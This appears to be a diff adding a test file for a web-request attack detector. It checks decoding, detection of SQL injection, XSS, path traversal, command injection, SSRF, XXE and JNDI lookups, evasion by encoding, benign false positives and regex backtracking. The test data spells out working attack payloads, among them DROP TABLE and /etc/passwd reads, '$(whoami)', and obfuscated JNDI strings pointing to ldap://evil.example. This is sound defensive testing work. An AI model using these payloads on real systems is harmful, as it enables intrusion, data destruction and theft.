@@ -1,0 +1,136 @@
+import t from 'tap'
+import { ATTACK_PATTERNS, AttackDetector, type AttackInputs } from '../../src/insight/attacks.ts'
+import { decodeValue, percentDecode } from '../../src/insight/decode.ts'
+import { evaluateCorpus } from './corpus/evaluate.ts'
+
+const detector = new AttackDetector()
+const base: AttackInputs = { path: '/api/items', query: '', headers: { 'user-agent': 'Mozilla/5.0 Firefox/127.0' }, body: null }
+const q = (value: string) => detector.detect({ ...base, query: `q=${encodeURIComponent(value)}` })
+const json = (doc: unknown) => detector.detect({ ...base, headers: { 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify(doc)) })
+
+t.test('decoding: repeated URL encoding, HTML entities, JavaScript escapes, overlong UTF-8, malformed escapes', async (t) => {
+  t.equal(decodeValue('%253Cscript%253E'), '<script>')
+  t.equal(decodeValue('&lt;img src=x onerror&#x3d;alert&#40;1&#41;&gt;'), '<img src=x onerror=alert(1)>')
+  t.equal(decodeValue('\\u003cscript\\x3e'), '<script>')
+  t.equal(decodeValue('%c0%ae%c0%ae/etc'), '../etc')
+  t.equal(decodeValue('%u003cb%u003e'), '<b>')
+  t.equal(decodeValue('a+b', true), 'a b')
+  t.equal(decodeValue('a+b'), 'a+b', '+ is a space only in queries and forms')
+  t.equal(percentDecode('100% sure %zz %e9t%C3%A9'), '100% sure %zz %e9té', 'broken escapes stay, valid ones are decoded')
+  t.equal(decodeValue('a%00b%01c'), 'a\0bc', 'NUL stays (attacks rely on it), other controls go')
+})
+
+t.test('each class: positives', async (t) => {
+  t.same(q("1' OR '1'='1"), ['sqli'])
+  t.same(q('1 UNION SELECT password FROM users'), ['sqli'])
+  t.same(q("1'; DROP TABLE users--"), ['sqli'])
+  t.same(q('<script>alert(1)</script>'), ['xss'])
+  t.same(q('<img src=x onerror=alert(1)>'), ['xss'])
+  t.same(detector.detect({ ...base, path: '/static/../../../etc/passwd' }), ['path_traversal'])
+  t.same(q('; cat /etc/passwd'), ['path_traversal', 'rce'], 'a command reading a system file is both')
+  t.same(q('$(whoami)'), ['rce'])
+  t.same(q('{{7*7}}'), ['rce'], 'template injection')
+  t.same(q('http://169.254.169.254/latest/meta-data/'), ['ssrf'])
+  t.same(q('http://0x7f000001/'), ['ssrf'], 'a hex-spelled loopback address')
+  t.same(json({ user: { $ne: null }, password: { $ne: null } }), ['nosqli'], 'operators as JSON keys')
+  t.same(detector.detect({ ...base, query: 'user[$ne]=x&pass[$ne]=x' }), ['nosqli'], 'operators as query names')
+  t.same(q('*)(uid=*))(|(uid=*'), ['ldapi'])
+  t.same(detector.detect({ ...base, headers: { 'content-type': 'application/xml' }, body: Buffer.from('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>') }), ['xxe'])
+  t.same(detector.detect({ ...base, headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } }), ['jndi'], 'in any header')
+  t.same(detector.detect({ ...base, headers: { 'user-agent': 'sqlmap/1.7' } }), ['scanner'])
+  t.same(detector.detect({ ...base, path: '/.git/config' }), ['scanner'])
+})
+
+t.test('evasion by encoding and obfuscation', async (t) => {
+  t.same(detector.detect({ ...base, query: 'q=%253Cscript%253Ealert(1)%253C%252Fscript%253E' }), ['xss'], 'double URL encoding')
+  t.same(q('&lt;script&gt;alert(1)&lt;/script&gt;'), ['xss'], 'HTML entities')
+  t.same(json({ c: '\u003cimg src=x onerror=alert(1)\u003e' }), ['xss'], 'JSON unicode escapes')
+  t.same(q('1 UN/**/ION SE/**/LECT 1'), ['sqli'], 'SQL comments inside keywords')
+  t.same(q('1/**/OR/**/1=1'), ['sqli'], 'SQL comments as spaces')
+  t.same(q('<ScRiPt>alert(1)</sCrIpT>'), ['xss'], 'mixed case')
+  t.same(detector.detect({ ...base, path: '/a/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd' }), ['path_traversal'], 'overlong UTF-8 dots')
+  t.same(detector.detect({ ...base, headers: { referer: '${${lower:j}${::-n}di:ldap://evil.example/x}' } }), ['jndi'], 'nested lookups')
+  t.same(detector.detect({ ...base, headers: { 'user-agent': '${${env:X:-j}ndi${env:X:-:}ldap://e.example/a}' } }), ['jndi'])
+  t.same(detector.detect({ ...base, headers: { cookie: `theme=dark; session=${encodeURIComponent("' OR 1=1--")}` } }), ['sqli'], 'in a cookie value')
+  t.same(detector.detect({ ...base, headers: { 'content-type': 'multipart/form-data; boundary=XyZ' }, body: Buffer.from('--XyZ\r\nContent-Disposition: form-data; name="bio"\r\n\r\n<svg onload=alert(1)>\r\n--XyZ--\r\n') }), ['xss'], 'in a multipart part')
+  t.same(detector.detect({ ...base, headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from('name=x&bio=%3Cscript%3Ealert(1)%3C%2Fscript%3E') }), ['xss'], 'in a form field')
+})
+
+t.test('tricky negatives: what naive detectors flag', async (t) => {
+  const benign = [
+    "O'Brien",
+    "Rock 'n' roll never dies",
+    "I read 'Dune' and others like it",
+    'Please select the items from the list where you want delivery',
+    'Union Street; drop by at 5',
+    'if (a < b) { return x; }',
+    'a <= b && b >= c',
+    '<b>bold</b> and <a href="https://example.com">a link</a>',
+    'SELECT * FROM users is slow, any idea?',
+    'Run ls -la to see hidden files',
+    'see ../README.md',
+    'Hello ${name}, your order {{order_id}} shipped',
+    'https://example.com/callback?state=xyz',
+    '{"$schema": "http://json-schema.org/draft-07/schema#"}',
+    'Prices from $5 to $50 (tax incl.)',
+    'f(x)(y) = 2',
+    'time.sleep(5)',
+    '<!DOCTYPE html><html><body>hi</body></html>',
+    'javascript tutorial: closures',
+    "We're #1; call us",
+  ]
+  for (const v of benign) t.same(q(v), [], JSON.stringify(v))
+  t.same(json({ note: "it's fine", tags: ['or', 'and'], price: '$5' }), [])
+  t.same(detector.detect({ ...base, headers: { referer: 'http://localhost:3000/checkout' } }), [], "a browser's local page URL is no forgery")
+  t.same(detector.detect({ ...base, path: '/blog/it%27s-a-trap' }), [])
+})
+
+t.test('the inspected bytes are bounded by maxInspectBytes', async (t) => {
+  const small = new AttackDetector({ maxInspectBytes: 64 })
+  const body = Buffer.from(`comment=${'a'.repeat(100)}%3Cscript%3Ealert(1)%3C%2Fscript%3E`)
+  const inputs = { ...base, headers: { 'content-type': 'application/x-www-form-urlencoded' }, body }
+  t.same(small.detect(inputs), [], 'an attack past the limit is not read')
+  t.same(new AttackDetector({ maxInspectBytes: 4096 }).detect(inputs), ['xss'])
+})
+
+t.test('hostile inputs never throw', async (t) => {
+  const weird = ['%', '%%', '%zz', '&#99999999;', '\\u{110000}', '\\ud800', '${${${${', '{"a":', '\u0000'.repeat(100), '<'.repeat(10_000)]
+  for (const w of weird) {
+    t.doesNotThrow(() => q(w))
+    t.doesNotThrow(() => detector.detect({ ...base, headers: { 'content-type': 'application/json' }, body: Buffer.from(w) }))
+  }
+})
+
+t.test('every detector pattern finishes on long adversarial input (no catastrophic backtracking)', async (t) => {
+  const units = ['a', '1', ' ', '/', '.', '..', '../', '(', ')(', '*)', '<', '<a ', "'", '"', '%', '$', '${', '{{', ':', '//', '\\', 'a=', ';', '|', '`', 'or ', '1 or 1', '/*', '&#']
+  const inputs = units.flatMap((u) => {
+    const run = u.repeat(Math.ceil(50_000 / u.length))
+    return [run, run + '!', '<svg ' + run]
+  })
+  let slowest = 0
+  for (const re of ATTACK_PATTERNS) {
+    const t0 = performance.now()
+    for (const s of inputs) {
+      re.lastIndex = 0
+      re.test(s)
+    }
+    slowest = Math.max(slowest, performance.now() - t0)
+  }
+  t.comment(`${ATTACK_PATTERNS.length} patterns x ${inputs.length} inputs of ~50 KB; the slowest pattern took ${slowest.toFixed(0)} ms in all`)
+  t.ok(ATTACK_PATTERNS.length > 60, 'all patterns ran')
+})
+
+t.test('the labelled corpus: at least 95% detection per class, at most 0.5% false positives', async (t) => {
+  const f = evaluateCorpus()
+  for (const c of f.classes) {
+    t.ok(c.payloads >= 60, `${c.class}: ${c.payloads} payloads`)
+    t.ok(c.detectionPct >= 95, `${c.class}: ${c.detectionPct}% detected`)
+    t.ok(c.fpPct <= 0.5, `${c.class}: ${c.fpPct}% false positives`)
+  }
+  t.ok(f.benign >= 3_000, `${f.benign} benign values`)
+  t.ok(f.benignFlaggedPct <= 0.5, `${f.benignFlaggedPct}% of benign values flagged as anything`)
+  const held = evaluateCorpus(detector, 'held-out.jsonl')
+  const total = held.classes.reduce((n, c) => n + c.payloads, 0)
+  const found = held.classes.reduce((n, c) => n + c.detected, 0)
+  t.comment(`held-out payloads (never used for tuning): ${found}/${total} detected`)
+})
